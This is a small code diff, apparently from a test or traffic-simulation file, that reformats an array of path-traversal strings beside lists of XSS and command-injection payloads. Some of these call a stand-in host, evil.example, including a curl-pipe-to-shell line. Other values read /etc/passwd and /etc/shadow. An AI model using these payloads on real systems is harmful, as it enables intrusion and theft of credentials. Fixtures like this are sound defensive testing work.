@@ -36,7 +36,12 @@ const SCRIPTS = [
   '"><img src=x onerror=alert(1)>',
   "<svg/onload=fetch('https://evil.example')>",
 ];
-const PATHS = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "php://filter/resource=config"];
+const PATHS = [
+  "../../../../etc/passwd",
+  "..\\..\\windows\\win.ini",
+  "/etc/shadow",
+  "php://filter/resource=config",
+];
 const COMMANDS = ["127.0.0.1;cat /etc/passwd", "x && curl http://evil.example/a.sh | sh", "$(whoami)", "|id"];
 
 /** Most are failures for a few names: bursts, as each attacking source comes again and again. */
